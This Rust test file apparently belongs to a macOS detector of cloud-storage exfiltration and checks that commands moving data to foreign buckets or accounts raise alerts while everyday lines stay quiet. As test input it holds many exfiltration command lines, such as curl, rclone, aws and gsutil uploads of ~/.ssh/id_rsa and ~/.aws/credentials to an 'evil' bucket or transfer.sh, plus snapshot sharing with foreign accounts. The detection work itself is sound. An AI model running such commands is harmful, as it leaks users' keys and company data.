//! What the command lines of cloud tools say by themselves: T1537 without a byte from this Mac, and uploads whose command
//! names file and destination.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const OWN: &str = include_str!("commands/own.toml");

/// A tool as a package manager installs it.
fn tool(name: &'static str) -> Program {
    let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
    adhoc(path, name)
}

fn own() -> String {
    format!("{CORP}\n{OWN}")
}

/// One command by a shell's child, and nothing else.
fn run(line: &str, policy: &str) -> Told {
    let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
    let mut w = World::new();
    policy.clone_into(&mut w.policy);
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    w.spawn(1.0, &shell, tool(words[0]), &words);
    w.tell()
}

#[test]
fn handing_data_over_is_told_and_its_twin_is_not() {
    let policy = own();
    let lines = include_str!("commands/handed_over.tsv").lines().filter(|line| !line.starts_with('#'));
    let mut told = 0;
    for line in lines {
        let [service, tenant, foreign, twin] = line.split('\t').collect::<Vec<_>>()[..] else {
            panic!("four columns: {line}")
        };
        let story = run(foreign, &policy);
        let alerts = story.alerts();
        assert_eq!(alerts.len(), 1, "{foreign}: {alerts:#?}");
        let alert = story.alert();
        assert_eq!(alert.service.as_deref(), Some(service), "{foreign}");
        assert_eq!(alert.tenant.as_deref(), Some(tenant), "{foreign}");
        assert_eq!(alert.tenant_verdict.as_str(), "foreign", "{foreign}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{foreign}");
        assert_eq!(alert.count, 1, "{foreign}");
        let quiet = run(twin, &policy);
        assert!(quiet.alerts().is_empty(), "{twin}: {:#?}", quiet.alerts());
        told += 1;
    }
    assert!(told >= 40, "{told} lines");
}

#[test]
fn m38_snapshot_shared_with_another_account() {
    let line = "aws ec2 modify-snapshot-attribute --snapshot-id snap-0 --create-volume-permission Add=[{UserId=999988887777}]";
    let told = run(line, CORP);
    let alert = told.alert();
    assert_eq!(alert.rules[0].id.as_ref(), "cw.transfer.control-plane");
    assert_eq!((alert.tenant.as_deref(), alert.bytes_out), (Some("999988887777"), 0));
    assert!(alert.reads.is_empty() && alert.flows.is_empty());
    for record in &told.records {
        let text = cloudward::sink::format::text(record);
        assert!(text.contains("999988887777") && !text.contains("after a sensitive read"), "{text}");
    }
}

#[test]
fn m39_bucket_synced_to_another() {
    let told = run("aws s3 sync s3://corp s3://evil --source-region eu-west-1", CORP);
    assert_eq!(told.alert().tenant.as_deref(), Some("evil"));
}

/// The command is seen twice: on the wrapper's line, and when the tool itself starts. It is one deed.
#[test]
fn m39_through_wrappers() {
    let inner = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
    let line = inner.join(" ");
    for (wrapper, args) in [
        (ZSH, vec!["zsh", "-c", &*line]),
        (apple("/usr/bin/env", "com.apple.env"), [&["env", "A=1"][..], &inner[..]].concat()),
        (apple("/usr/bin/nohup", "com.apple.nohup"), [&["nohup"][..], &inner[..]].concat()),
        (apple("/usr/bin/sudo", "com.apple.sudo"), [&["sudo", "-u", "bob"][..], &inner[..]].concat()),
    ] {
        for forks in [false, true] {
            let mut w = World::new();
            let outer = w.launch(1.0, wrapper, &args);
            let child = if forks { w.fork(1.1, &outer) } else { outer };
            w.exec(1.2, &child, tool("aws"), &inner);
            let told = w.tell();
            let alert = told.alert();
            assert_eq!((alert.count, alert.tenant.as_deref()), (1, Some("evil")), "{args:?}");
            let mut alone = World::new();
            alone.launch(1.0, wrapper, &args);
            assert_eq!(alone.tell().alert().count, 1, "{args:?}");
        }
    }
}

/// Wrappers of wrappers, on one line.
#[test]
fn through_wrappers_within_wrappers() {
    let inner = "aws s3 sync s3://corp s3://evil";
    for (wrapper, script) in [
        ("xargs -n 1", false),
        ("xargs -I{} -P4", false),
        ("nohup nice -n 5", false),
        ("sudo env A=1", false),
        ("stdbuf -oL", false),
        ("gtimeout 60", false),
        ("cd /tmp && exec", true),
        ("sudo -u bob", true),
    ] {
        let line = format!("{wrapper} {inner}");
        let words: Vec<&str> = if script { vec!["bash", "-c", &line] } else { line.split(' ').collect() };
        let mut w = World::new();
        w.launch(1.0, tool(words[0].to_owned().leak()), &words);
        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{line}");
    }
}

#[test]
fn copies_whose_account_the_line_does_not_name() {
    for line in [
        "aws ec2 copy-snapshot --source-region us-east-1 --source-snapshot-id snap-1",
        "aws --profile other ec2 copy-image --source-image-id ami-1 --source-region eu-west-1 --name x",
        "aws rds copy-db-snapshot --source-db-snapshot-identifier s --target-db-snapshot-identifier t",
    ] {
        let told = run(line, &own());
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
    }
    let open = run("s3cmd setacl --acl-public s3://corp-data/x", &own());
    assert_eq!(open.alert().tenant.as_deref(), Some("anyone"));
    run("s3cmd setacl --acl-private s3://corp-data/x", &own()).none();
}

/// Twice the same deed is two, of one alert.
#[test]
fn the_same_deed_again_counts() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let line = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
    w.spawn(1.0, &shell, tool("aws"), &line);
    w.spawn(90.0, &shell, tool("aws"), &line);
    let told = w.tell();
    assert_eq!((told.alert().count, told.alert().revision), (2, 2));
}

/// A link for years; a short one into one's own account is everyday work.
#[test]
fn m40_links_that_let_in_whoever_has_them() {
    let policy = own();
    for (line, severity) in [
        (
            "az storage container generate-sas --name c --account-name corpstore --permissions r --expiry 2030-01-01",
            "high",
        ),
        (
            "az storage blob generate-sas -c c -n b --account-name evilstore --expiry 2026-01-01T00:30Z",
            "medium",
        ),
        ("aws s3 presign s3://corp-data/db.dump --expires-in 604800", "medium"),
        ("gsutil signurl -d 7d key.json gs://corp-data/x", "medium"),
        ("gcloud storage sign-url gs://corp-data/x --duration=12h", "medium"),
        ("rclone link drive:plan.docx", "high"),
        ("mega-export -a /plan.docx", "high"),
        ("az snapshot grant-access --duration-in-seconds 86400 -n snap -g rg", "medium"),
        (
            "oci os preauth-request create -ns corptenancy -bn b --name n --access-type ObjectRead --time-expires 2030-01-01",
            "high",
        ),
    ] {
        let told = run(line, &policy);
        let alert = told.low();
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "bearer-link"), "{line}");
        assert_eq!(alert.severity.as_str(), severity, "{line}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{line}");
    }
    for line in [
        "aws s3 presign s3://corp-data/db.dump",
        "aws s3 presign s3://corp-data/db.dump --expires-in 900",
        "gsutil signurl -d 10m key.json gs://corp-data/x",
        "az storage container generate-sas --name c --account-name corpstore --expiry 2026-01-01T00:30Z",
    ] {
        run(line, &policy).none();
    }
}

/// Who is let in stands in a file, or the receiving account in the tool's own configuration.
#[test]
fn what_the_line_does_not_say_is_unknown() {
    let policy = own();
    for line in [
        "aws s3api put-bucket-policy --bucket corp-data --policy file://policy.json",
        "rclone copy corp-s3:corp-data gdrive:loot",
    ] {
        let told = run(line, &policy);
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
    }
    // Nothing at all is known of where it goes.
    let told = run("rclone copy one:x two:y", &policy);
    assert!(told.note().iter().any(|note| note.kind.as_str() == "name-hidden"));
}

/// Where no entry names an account of the service, each one that is named is foreign: of another service's entries, too.
#[test]
fn what_no_entry_names_is_foreign() {
    for (line, tenant) in [
        ("aws s3 sync s3://corp s3://evil", "evil"),
        ("gcloud storage cp -r gs://corp gs://evil", "evil"),
        ("gsutil -m rsync -r gs://corp gs://evil", "evil"),
        ("gcloud sql export sql inst gs://evil/dump.sql.gz --database=db", "evil"),
        ("bq extract ds.t gs://evil/t.csv", "evil"),
        ("azcopy copy https://corp.blob.core.windows.net/c https://evil.blob.core.windows.net/c", "evil"),
        (
            "az storage blob copy start --source-uri https://corp.blob.core.windows.net/c/b --account-name evil --destination-container c --destination-blob b",
            "evil",
        ),
    ] {
        let others = if line.starts_with("aws") { "" } else { CORP };
        let told = run(line, others);
        let alert = told.alert();
        let verdict = (alert.tenant.as_deref(), alert.tenant_verdict.as_str());
        assert_eq!(verdict, (Some(tenant), "foreign"), "{line}");
        assert!(alert.reasons.iter().all(|reason| reason.code.as_str() != "tenant-unknown"), "{line}");
    }
    // Whose account it is made in, nobody can tell.
    run("aws ec2 copy-snapshot --source-region us-east-1 --source-snapshot-id snap-1", "").low();
    run("aws s3 sync s3://corp s3://corp/archive", "").none();
}

/// What a tool only says it would do is not done; what looks like it, and is taken back or belongs to something else, is.
#[test]
fn a_dry_run_hands_nothing_over() {
    let policy = own();
    for line in [
        "aws s3 sync --dryrun s3://corp-data s3://evil",
        "aws s3 cp s3://corp-data/x s3://evil/x --dryrun",
        "aws ec2 modify-snapshot-attribute --dry-run --snapshot-id s --operation-type add --user-ids 999988887777",
        "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission Add=[{UserId=999988887777}] --generate-cli-skeleton output",
        "rclone sync --dry-run corp-s3:corp-data evil-s3:evil",
        "rclone copy -n corp-s3:corp-data evil-s3:evil",
        "rclone sync --progress --dry-run corp-s3:corp-data evil-s3:evil",
        "gcloud storage rsync --recursive --dry-run gs://corp-data gs://evil",
        "rclone copy -Pn corp-s3:corp-data evil-s3:evil",
        "gsutil -m rsync -n -r gs://corp-data gs://evil",
        "gsutil -m rsync -rn gs://corp-data gs://evil",
        "gcloud storage rsync --dry-run gs://corp-data gs://evil",
        "azcopy copy --dry-run https://corpstore.blob.core.windows.net/c https://evil.blob.core.windows.net/c",
        "s3cmd sync --dry-run s3://corp-data s3://evil",
        "s3cmd sync -nr s3://corp-data s3://evil",
        "s5cmd --dry-run cp s3://corp-data/x s3://evil/x",
        "mc mirror --dry-run s3/corp-data s3/evil",
        "rclone copy --dry-run /Users/alice/.ssh/id_rsa evil-s3:evil",
    ] {
        run(line, &policy).none();
    }
    for line in [
        "rclone copy --dry-run=false corp-s3:corp-data evil-s3:evil",
        "rclone copy --some-new-option --dry-run corp-s3:corp-data evil-s3:evil",
        "rclone copy --exclude --dry-run corp-s3:corp-data evil-s3:evil",
        "aws ec2 modify-snapshot-attribute --dry-run --no-dry-run --snapshot-id s --operation-type add --user-ids 999988887777",
        "gsutil cp -n gs://corp-data/x gs://evil/x",
    ] {
        run(line, &policy).alert();
    }
}

#[test]
fn reading_and_listing_are_no_transfer() {
    for line in [
        "aws sts get-caller-identity",
        "aws s3 ls s3://evil",
        "aws s3 cp s3://evil/tool.zip /tmp/",
        "aws ec2 describe-snapshots --owner-ids 999988887777",
        "rclone ls evil-s3:evil",
        "gsutil ls gs://evil",
        "gcloud compute images list",
        "az storage account list",
        "gh repo view",
        "curl -o /Users/alice/Documents/corp/x https://content.dropboxapi.com/x",
    ] {
        run(line, &own()).none();
    }
}

/// The command names the file, the flow only the service: that is enough, and the bucket is known from the line.
#[test]
fn uploads_known_from_the_line() {
    for (line, host, read, tenant) in [
        (
            "aws s3 cp /Users/alice/.ssh/id_rsa s3://evil/k",
            "s3.eu-west-1.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        (
            "aws s3 cp /Users/alice/.aws/credentials s3://evil/k",
            "s3.amazonaws.com",
            "/.aws/credentials",
            Some("evil"),
        ),
        (
            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa",
            "s3.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        ("aws s3 sync Documents/corp s3://evil", "s3.amazonaws.com", "/Documents/corp", Some("evil")),
        (
            "rclone copy /Users/alice/.ssh/id_rsa evil:evil/x",
            "s3.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        (
            "rclone copy /Users/alice/.config/rclone/rclone.conf mega:",
            "g.api.mega.co.nz",
            "/rclone.conf",
            None,
        ),
        ("gsutil cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
        ("gcloud storage cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
        ("curl -sST.ssh/id_rsa https://transfer.sh/k", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl -d@.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl -F f=@.ssh/id_rsa;type=text/plain https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl --upload-file=.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl --data-binary @.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("wget --post-file .ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("http POST https://transfer.sh/ f@.ssh/id_rsa", "transfer.sh", "/.ssh/id_rsa", None),
        ("gh gist create -p .ssh/id_rsa", "api.github.com", "/.ssh/id_rsa", None),
        ("b2 upload-file evil .ssh/id_rsa k", "api.backblazeb2.com", "/.ssh/id_rsa", Some("evil")),
        ("mc cp .ssh/id_rsa s3/evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
        ("s3cmd put .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
        (
            "azcopy copy .ssh/id_rsa https://evil.blob.core.windows.net/c",
            "evil.blob.core.windows.net",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        ("mega-put .ssh/id_rsa /loot", "g.api.mega.co.nz", "/.ssh/id_rsa", None),
        ("dbxcli put .ssh/id_rsa /k", "content.dropboxapi.com", "/.ssh/id_rsa", None),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        let mut w = World::new();
        let p = w.launch(1.0, tool(words[0]), &words);
        w.upload(2.0, &p, host, 20_000);
        let told = w.tell();
        let alert = told.one_of_any_confidence();
        let first = &alert.reads[0];
        assert_eq!(first.evidence.as_str(), "argv", "{line}");
        assert!(first.path.to_string().ends_with(read), "{line}: {}", first.path);
        assert_eq!(alert.tenant.as_deref(), tenant, "{line}");
    }
}

/// The bucket that the line names decides where the name on the wire hides it.
#[test]
fn b15_path_style_bucket_is_known_from_the_line() {
    for (bucket, foreign) in [("corp-backup", false), ("evil", true)] {
        let mut w = World::new();
        let to: &'static str = format!("corp-s3:{bucket}").leak();
        let p = w.launch(0.0, tool("rclone"), &["rclone", "sync", "/Users/alice/Documents", to]);
        w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
        w.upload(2.0, &p, "s3.eu-central-1.amazonaws.com", 800_000);
        let told = w.tell();
        if foreign { assert_eq!(told.alert().tenant.as_deref(), Some(bucket)) } else { told.none() }
    }
}

/// Backblaze keeps its customers' backups and the buckets of others on the same machines: only who asks, or the line, tells
/// which it is.
#[test]
fn machines_that_a_backup_shares_with_buckets() {
    const POD: &str = "pod-000-1004-00.backblaze.com";
    const BACKUP: Program =
        vendor("/Library/Backblaze.bzpkg/bztransmit", "com.backblaze.bztransmit", "BACKBLAZE1");
    const POLICY: &str = r#"
[[allow]]
name      = "our own bucket"
process   = { path = "/opt/homebrew/bin/rclone", unsigned = true }
sensitive = ["documents", "corp-docs"]
services  = ["backblaze-b2"]
tenants   = ["corp-backup"]
users     = "*"
reason    = "CHG-1"
[[allow]]
name      = "backups of homes"
process   = { path = "/Library/Backblaze.bzpkg/**", team_id = "BACKBLAZE1", signing_id = "com.backblaze.bztransmit" }
sensitive = "*"
services  = ["backblaze-backup", "backblaze-b2"]
tenants   = "*"
users     = "*"
reason    = "CHG-2"
"#;
    let told = |program: Program, args: &[&str], host: &str| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{POLICY}");
        let p = w.launch(0.0, program, args);
        w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
        w.upload(2.0, &p, host, 800_000);
        w.tell()
    };
    let rclone =
        |to: &str, host: &str| told(tool("rclone"), &["rclone", "sync", "/Users/alice/Documents", to], host);
    for host in [POD, "api.backblazeb2.com"] {
        rclone("b2:corp-backup", host).none();
        let foreign = rclone("b2:evil/x", host);
        let alert = foreign.alert();
        let (service, tenant) = (alert.service.as_deref(), alert.tenant.as_deref());
        assert_eq!((service, tenant), (Some("backblaze-b2"), Some("evil")), "{host}");
        assert_eq!(alert.tenant_verdict.as_str(), "foreign", "{host}");
    }
    // Whose bucket it is, its own configuration says.
    let own = told(adhoc("/private/tmp/up", "up"), &["up"], POD);
    assert_eq!(own.low().service.as_deref(), Some("backblaze-b2"));
    // The client of the backup goes to both.
    for host in [POD, "ca001.backblaze.com"] {
        told(BACKUP, &["bztransmit"], host).none();
        told(Program { team: Some("EV1L000000"), ..BACKUP }, &["bztransmit"], host).one_of_any_confidence();
    }
    let site = told(adhoc("/private/tmp/up", "up"), &["up"], "secure.backblaze.com");
    assert_eq!(site.alert().service.as_deref(), Some("backblaze-backup"));
}

/// A web address in path style hides its bucket, and nothing else tells it.
#[test]
fn path_style_address_hides_its_bucket() {
    let mut w = World::new();
    let args = ["curl", "-T", "/Users/alice/.ssh/id_rsa", "https://s3.eu-west-1.amazonaws.com/bucket/key"];
    let p = w.launch(0.0, apple("/usr/bin/curl", "com.apple.curl"), &args);
    w.upload(2.0, &p, "s3.eu-west-1.amazonaws.com", 20_000);
    let told = w.tell();
    assert_eq!((told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()), (None, "unknown"));
}

/// rclone's destination is known only to its configuration; the name on the wire tells the service.
#[test]
fn m03_rclone_to_mega() {
    let mut w = World::new();
    let p = w.launch(0.0, tool("rclone"), &["rclone", "copy", "/Users/alice/Documents", "mega:"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &p, "gfs270n111.userstorage.mega.co.nz", 800_000);
    let told = w.tell();
    assert_eq!(told.alert().service.as_deref(), Some("mega"));

    // All that lies in the folder is sent, the company's own documents too.
    let mut w = World::new();
    let p = w.launch(0.0, tool("rclone"), &["rclone", "copy", "/Users/alice/Documents", "mega:"]);
    w.upload(2.0, &p, "gfs270n111.userstorage.mega.co.nz", 800_000);
    assert_eq!(w.tell().alert().severity.as_str(), "high");
}

/// The interpreter runs a tool that is a script; a renamed tool is known by who signed it.
#[test]
fn tools_under_other_names() {
    let inner = ["s3", "sync", "s3://corp", "s3://evil"];
    let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
    let signed = vendor("/tmp/x", "com.amazon.aws.cli2", "94KV3E626L");
    for (program, front) in [
        (python, vec!["python3.12", "/opt/homebrew/bin/aws"]),
        (python, vec!["python3.12", "-m", "awscli"]),
        (signed, vec!["x"]),
    ] {
        let mut w = World::new();
        w.launch(0.0, program, &[&front[..], &inner[..]].concat());
        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{front:?}");
    }
}

/// The endpoint says whose buckets they are; the account of a store comes from the environment.
#[test]
fn environment_and_endpoints() {
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let program = tool(args[0].to_owned().leak());
        w.exec_in(1.1, &child, program, args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.tell()
    };
    let wasabi = "AWS_ENDPOINT_URL=https://s3.wasabisys.com";
    let copy = ["aws", "s3", "sync", "s3://corp-data", "s3://corp-backup"];
    told(&copy, &[]).none();
    let elsewhere = told(&copy, &[wasabi]);
    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
    let start = [
        "az",
        "storage",
        "blob",
        "copy",
        "start",
        "--source-uri",
        "https://corpstore.blob.core.windows.net/c/b",
        "-b",
        "b",
    ];
    let named = told(&start, &["AZURE_STORAGE_ACCOUNT=evilstore"]);
    assert_eq!(named.alert().tenant.as_deref(), Some("evilstore"));
    let remotes = ["rclone", "sync", "corp-s3:corp-data", "x:loot"];
    let typed = told(&remotes, &["RCLONE_CONFIG_X_TYPE=s3"]);
    assert_eq!(typed.alert().tenant.as_deref(), Some("loot"));
}

/// Jobs, backups to one's own bucket, pushes, installations.
#[test]
fn everyday_lines_are_quiet() {
    let policy = own();
    let lines = include_str!("commands/everyday.txt").lines().filter(|line| !line.starts_with('#'));
    let told: Vec<_> = lines.map(|line| (line, run(line, &policy))).collect();
    assert!(told.len() >= 60, "{}", told.len());
    for (line, told) in told {
        assert!(told.alerts().is_empty(), "{line}: {:#?}", told.alerts());
    }
}

/// A copy that lets everybody read it is one act, and one alert: of the command, of what it sends, of both.
#[test]
fn one_act_is_one_alert() {
    for (line, host, tenant, severity) in [
        ("aws s3 cp .ssh/id_rsa s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
        ("aws s3 cp .ssh/id_rsa s3://corp-backup/k --acl public-read", "s3.amazonaws.com", "anyone", "high"),
        ("aws s3 cp Documents/plan.docx s3://evil/k --acl public-read", "s3.amazonaws.com", "evil", "high"),
        ("s3cmd put -P .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "evil", "high"),
        ("gsutil cp -a public-read .ssh/id_rsa gs://evil/k", "storage.googleapis.com", "evil", "high"),
        (
            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa --grant-read id=$WHO --acl public-read",
            "evil.s3.eu-west-1.amazonaws.com",
            "evil",
            "high",
        ),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        for wrapped in [false, true] {
            let mut w = World::new();
            w.policy = own();
            let shell = if wrapped {
                w.launch(0.5, ZSH, &["zsh", "-c", line])
            } else {
                w.launch(0.5, ZSH, &["-zsh"])
            };
            let p = w.spawn(1.0, &shell, tool(words[0]), &words);
            w.upload(2.0, &p, host, 20_000);
            let told = w.tell();
            let alert = told.alert();
            assert_eq!((alert.tenant.as_deref(), alert.count), (Some(tenant), 1), "{line}");
            assert!(alert.severity.as_str() >= severity || alert.severity.as_str() == "critical", "{line}");
            let rules: Vec<&str> = alert.rules.iter().map(|rule| &*rule.id).collect();
            assert!(rules.contains(&"cw.transfer.control-plane"), "{line}: {rules:?}");
            assert!(rules.contains(&"cw.exfil.cloud-storage"), "{line}: {rules:?}");
            assert!(alert.bytes_out >= 20_000 && !alert.reads.is_empty(), "{line}");
        }
    }
    let both = run("aws s3 cp s3://corp-data/x s3://evil/x --acl public-read", &own());
    let alert = both.alert();
    assert_eq!((alert.tenant.as_deref(), alert.count), (Some("evil"), 1));
    for words in ["copies data from corp-data", "gives anyone access"] {
        assert!(
            alert.reasons.iter().any(|reason| reason.text.contains(words)),
            "{words}: {:?}",
            alert.reasons
        );
    }
}

/// What else the shell's line holds is another act.
#[test]
fn two_acts_of_one_line_are_two_alerts() {
    let script = "aws s3 sync s3://corp-data s3://evil; curl -T .ssh/id_rsa https://transfer.sh/x";
    for last_in_place in [false, true] {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
        w.spawn(1.0, &shell, tool("aws"), &["aws", "s3", "sync", "s3://corp-data", "s3://evil"]);
        let args = ["curl", "-T", ".ssh/id_rsa", "https://transfer.sh/x"];
        let curl = apple("/usr/bin/curl", "com.apple.curl");
        let p =
            if last_in_place { w.exec(3.0, &shell, curl, &args) } else { w.spawn(3.0, &shell, curl, &args) };
        w.upload(4.0, &p, "transfer.sh", 20_000);
        let told = w.tell();
        let mut ids: Vec<_> = told.alerts().iter().map(|alert| alert.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), 2, "in place {last_in_place}: {:#?}", told.alerts());
    }
}

/// Each file of a loop by a process of its own, each opened to everybody: one chain.
#[test]
fn a_loop_of_such_acts_is_one_alert() {
    let mut w = World::new();
    w.policy = own();
    let script = "for f in id_rsa id_ed25519; do aws s3 cp ~/.ssh/$f s3://evil/ --acl public-read; done";
    let shell = w.launch(0.5, apple("/bin/bash", "com.apple.bash"), &["bash", "-c", script]);
    for (at, file) in [(1.0, "/Users/alice/.ssh/id_rsa"), (9.0, "/Users/alice/.ssh/id_ed25519")] {
        let p = w.spawn(
            at,
            &shell,
            tool("aws"),
            &["aws", "s3", "cp", file, "s3://evil/", "--acl", "public-read"],
        );
        w.upload(at + 1.0, &p, "s3.amazonaws.com", 20_000);
    }
    let told = w.tell();
    let alert = told.alert();
    assert_eq!((alert.tenant.as_deref(), alert.reads.len()), (Some("evil"), 2), "{alert:#?}");
}

/// What a shell is told to run, as far as its text says.
#[test]
fn loops_lists_and_substitutions_of_a_shell() {
    let bash = apple("/bin/bash", "com.apple.bash");
    let told = |script: &str, env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        w.exec_in(
            1.1,
            &child,
            bash,
            &["bash", "-c", script],
            "null",
            &[],
            &[&["HOME=/Users/alice"][..], env].concat(),
        );
        w.tell()
    };
    for script in [
        "for b in corp-data corp-backup; do aws s3 sync s3://$b s3://evil/$b; done",
        "cd /tmp && aws s3 sync s3://corp-data s3://evil >/dev/null 2>&1 &",
        "B=evil; aws s3 cp s3://corp-data/x \"s3://${B}/x\"",
        "if aws s3 ls s3://evil; then aws s3 sync s3://corp-data s3://evil; fi",
        "(sleep 5; aws s3 sync s3://corp-data s3://evil) | tee log",
        "echo $(aws s3 sync s3://corp-data s3://evil)",
        "while read -r b; do aws s3 sync s3://$b s3://evil; done < list.txt",
        "cat list | xargs -I{} sh -c 'aws s3 sync s3://{} s3://evil'",
        "find . -name '*.csv' -exec aws s3 mv s3://corp-data/{} s3://evil/ \\;",
        "function f { aws s3 sync s3://corp-data s3://evil; }; f",
        "eval \"aws s3 sync s3://corp-data s3://evil\"",
        "true\n# aws s3 sync s3://a s3://b\naws s3 sync s3://corp-data s3://evil\n",
        "python3 -c 'x'; env -i PATH=/bin aws s3 sync s3://corp-data s3://evil || true",
    ] {
        let script = script.replace("\\n", "\n");
        let told = told(&script, &[]);
        assert_eq!(told.alert().tenant.as_deref(), Some("evil"), "{script}");
    }
    let elsewhere =
        told("AWS_ENDPOINT_URL=https://s3.wasabisys.com aws s3 sync s3://corp-data s3://corp-backup", &[]);
    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
    // Where the text does not say whose it is, nothing is claimed.
    for script in [
        "aws s3 sync s3://corp-data s3://$UNSET",
        "aws s3 sync s3://corp-data s3://$(cat target)",
        "for b in $(cat targets); do aws s3 sync s3://corp-data s3://$b; done",
        "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission \"Add=[{UserId=$ACCOUNT}]\"",
    ] {
        let told = told(script, &[]);
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{script}");
    }
    for script in [
        "for b in corp-data corp-archive; do aws s3 sync s3://$b s3://corp-backup/$b; done",
        "echo aws s3 sync s3://corp-data s3://evil",
        "git commit -m 'aws s3 sync s3://corp-data s3://evil' # aws s3 sync s3://corp-data s3://evil",
        "cat > job.sh <<'END'\naws s3 sync s3://corp-data s3://evil\nEND\nchmod +x job.sh",
        "aws s3 ls s3://evil | grep x && aws s3 cp s3://evil/x .",
        "B=evil; B=corp-backup; aws s3 sync s3://corp-data s3://$B",
    ] {
        told(script, &[]).none();
    }
}

/// A command line, what its environment adds, the host it sends to, and the tenant expected.
type Line<'a> = (&'a [&'a str], &'a [&'a str], &'a str, Option<&'a str>);

/// Backup tools, scripts of transfer programs, and what the environment says of them.
#[test]
fn other_tools_name_files_and_places() {
    let key = ".ssh/id_rsa";
    let table: &[Line<'_>] = &[
        (
            &["duplicity", "full", "/Users/alice/.ssh", "boto3+s3://evil/x"],
            &[],
            "s3.amazonaws.com",
            Some("evil"),
        ),
        (&["duplicity", "/Users/alice/.ssh", "b2://id:key@evil/x"], &[], "api.backblazeb2.com", Some("evil")),
        (&["kopia", "snapshot", "create", "/Users/alice/.ssh"], &[], "s3.amazonaws.com", None),
        (&["borg", "create", "ssh://u@u.repo.borgbase.com/./repo::a", key], &[], "u.repo.borgbase.com", None),
        (&["borg", "create", "::a", key], &["BORG_REPO=ssh://u@rsync.net/./r"], "u.rsync.net", None),
        (
            &["restic", "backup", key],
            &["RESTIC_REPOSITORY=s3:s3.amazonaws.com/evil"],
            "s3.amazonaws.com",
            Some("evil"),
        ),
        (&["restic", "-r", "b2:evil:x", "backup", key], &[], "api.backblazeb2.com", Some("evil")),
        (
            &["lftp", "-u", "u,p", "-e", "put .ssh/id_rsa; bye", "sftp://u.your-storagebox.de"],
            &[],
            "u.your-storagebox.de",
            None,
        ),
        (
            &["lftp", "-c", "open -u u,p u.your-storagebox.de; mirror -R .ssh /x"],
            &[],
            "u.your-storagebox.de",
            None,
        ),
        (&["bash", "-c", "sftp u@rsync.net <<< 'put .ssh/id_rsa'"], &[], "rsync.net", None),
        (&["bash", "-c", "sftp -b - u@rsync.net <<EOF\ncd x\nput .ssh/id_rsa\nEOF"], &[], "rsync.net", None),
        (&["ncftpput", "-u", "u", "u.your-storagebox.de", "/x", key], &[], "u.your-storagebox.de", None),
        (&["s4cmd", "put", key, "s3://evil/k"], &[], "s3.amazonaws.com", Some("evil")),
        (
            &["swift", "upload", "evil", key],
            &["OS_STORAGE_URL=https://storage.gra.cloud.ovh.net/v1/AUTH_x"],
            "storage.gra.cloud.ovh.net",
            Some("evil"),
        ),
